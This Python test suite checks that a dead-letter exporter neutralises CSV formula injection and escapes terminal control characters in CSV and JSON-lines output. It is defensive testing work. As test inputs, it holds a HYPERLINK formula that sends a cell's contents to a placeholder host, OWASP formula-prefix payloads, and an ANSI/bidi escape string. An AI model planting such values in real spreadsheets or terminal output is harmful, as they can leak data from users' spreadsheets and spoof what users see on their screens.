"""Dead letters as CSV and as lines of JSON: no cell is a formula, and no text controls a terminal."""

import csv
import json
import re
import sys
from datetime import UTC, datetime
from io import StringIO
from itertools import count

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.dead_letters.export import Form, writer
from schemas.pipeline.record import Provenance, RawBody
from sinks.postgres.dead_letters.letter import DeadLetterLine, WholeDeadLetter

NOW = datetime(2026, 11, 22, tzinfo=UTC)


def letter(script_id: str | None, event_id: str | None, key: bytes, payload: bytes | None) -> WholeDeadLetter:
    line = DeadLetterLine(
        Provenance("bridge.raw", 0, 1), NOW, "schema_violation", "schema_violation", "-1: wrong", "00" * 8, 1, 1, None,
        script_id, event_id, "open", None, None,
    )  # fmt: skip
    return WholeDeadLetter(line, RawBody(key, payload, ()), NOW, NOW, NOW, NOW, None, None)


def written(one: WholeDeadLetter, form: Form, *, shown: bool = False) -> str:
    stream = StringIO()
    writer(stream, form, shown=shown)(one)
    return stream.getvalue()


def test_a_spreadsheet_is_given_no_formula() -> None:
    """Formulas are escaped in CSV only; other texts and lines of JSON stay unchanged."""
    bad = letter('=HYPERLINK("http://x?"&A1)', "@SUM(1)", b"+1", b"\t=1")
    (row,) = csv.DictReader(StringIO(written(bad, Form.CSV)))
    assert (row["script_id"], row["event_id"]) == ('\'=HYPERLINK("http://x?"&A1)', "'@SUM(1)")
    assert (row["key"], row["payload"], row["error"]) == ("'+1", "'\t'=1", "'-1: wrong")
    assert '"key": "+1"' in written(bad, Form.NDJSON)
    plain = written(letter("s1", None, b"1:e", b"{}"), Form.CSV)
    assert all(re.fullmatch(r'"[^"]*"(,"[^"]*")*', line) for line in plain.splitlines())
    (row,) = csv.DictReader(StringIO(plain))
    assert (row["script_id"], row["event_id"], row["key"], row["payload"]) == ("s1", "", "1:e", "{}")


FORMULA = re.compile(r"[\t\r\n\" ]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
OWASP = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1"]
TEXTS = st.text(st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20;|,\t\r\n\" 'a1"), max_size=12)


def assert_no_formula(one: WholeDeadLetter) -> None:
    """Check that no cell begins a formula, for every separator of a spreadsheet."""
    text = written(one, Form.CSV)
    for separator in ",;|\t":
        for row in csv.reader(StringIO(text, newline=""), delimiter=separator):
            assert not [cell for cell in row if FORMULA.match(cell)], (separator, row)


@pytest.mark.parametrize("formula", OWASP)
@pytest.mark.parametrize("before", ["", "x;", 'x;"', "x\t", "x\n", "x\r\n", "x|", '";', "x; "])
def test_csv_gives_no_spreadsheet_a_formula(formula: str, before: str) -> None:
    """OWASP's prefixes are escaped at a cell's start and after possible cell ends."""
    text = f"{before}{formula}"
    assert_no_formula(letter(text, text, text.encode(), text.encode()))


@given(TEXTS, TEXTS, TEXTS)
def test_csv_gives_no_spreadsheet_a_formula_whatever_the_texts(script_id: str, event_id: str, payload: str) -> None:
    """Read with `,`, each cell is the text apart from the added marks."""
    one = letter(script_id, event_id, b"k", payload.encode())
    assert_no_formula(one)
    (row,) = csv.DictReader(StringIO(written(one, Form.CSV), newline=""))
    for name, text in (("script_id", script_id), ("event_id", event_id), ("payload", payload)):
        assert row[name].replace("'", "") == text.replace("'", "")


HOSTILE = "a\x1b[31m\x07\x9b2J\u202e\x7f\r\nb"


def test_json_lines_hold_no_control_character() -> None:
    """All are escaped, beyond what JSON requires; a parser gets the original text."""
    line = written(letter(HOSTILE, HOSTILE, HOSTILE.encode(), HOSTILE.encode()), Form.NDJSON)
    assert line.removesuffix("\n").isprintable()
    assert [json.loads(line)[name] for name in ("script_id", "event_id", "key", "payload")] == [HOSTILE] * 4


def test_csv_on_a_terminal_is_written_out() -> None:
    """A file or a pipe gets the original text."""
    one = letter(HOSTILE, None, b"k", HOSTILE.encode())
    assert all(line.isprintable() for line in written(one, Form.CSV, shown=True).splitlines())
    assert HOSTILE in written(one, Form.CSV)


@pytest.mark.parametrize("shape", ["\u202ea", "\x7f\x1b", ";=", '\t"=', "\U000e0041\u00e9"])
@pytest.mark.parametrize("form", Form)
def test_a_hostile_letter_costs_no_call_for_each_character(form: Form, shape: str) -> None:
    """A megabyte would otherwise block the API's event loop for half a second."""
    one = letter("s1", None, b"k", shape.encode() * 20_000)
    calls = count()
    sys.setprofile(lambda *_: next(calls) and None)
    try:
        text = written(one, form)
    finally:
        sys.setprofile(None)
    assert next(calls) < 1000
    assert len(text) > 20_000
